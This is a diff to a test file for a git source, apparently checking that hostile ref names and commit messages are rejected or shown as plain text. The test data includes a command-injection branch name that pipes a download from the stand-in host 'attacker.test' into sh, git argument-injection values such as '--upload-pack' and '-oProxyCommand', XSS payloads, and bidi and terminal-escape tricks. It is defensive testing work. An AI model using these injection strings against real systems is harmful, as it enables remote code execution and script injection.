@@ -190,6 +190,7 @@ describe.skipIf(!hasSshd)('a hostile repository', () => {
     'ümlaut/日本語',
     'rtl\u202egnp.exe',
     'refs/heads/main',
+    '@',
     `main$(curl$${'{IFS}'}attacker.test|sh)`,
   ]
 
@@ -202,11 +203,27 @@ describe.skipIf(!hasSshd)('a hostile repository', () => {
   })
 
   test.each([
+    ['<script>alert(1)</script>', '<script>alert(1)</script>'],
+    ['</title><img src=x onerror=alert(1)>', '</title><img src=x onerror=alert(1)>'],
+    ['\u202e\u2066evil', 'evil'],
+    ['clear\u001b[2J\u001b]0;owned\u0007ed', 'cleared'],
+    ['one\u2028line', 'oneline'],
+  ])('the message and the author %j of a commit are text', async (words, shown) => {
+    const { origin, repository } = build()
+    const author = `Eve ${words.replaceAll(/[<>]/g, '')} Ada`
+    const sha = origin.commit({ file: 'x' }, { message: `Say ${words}`, author })
+    expect(await source.fetchCommit(repository, { sha })).toEqual({
+      sha,
+      message: `Say ${shown}`,
+      author: `Eve ${shown.replaceAll(/[<>]/g, '')} Ada`,
+    })
+  })
+
+  test.each([
     `--upload-pack=touch$${'{IFS}'}$CANARY`,
     '-oProxyCommand=touch $CANARY',
     '--exec=sh',
     '',
-    '@',
     'main branch',
     'a..b',
     '.hidden',
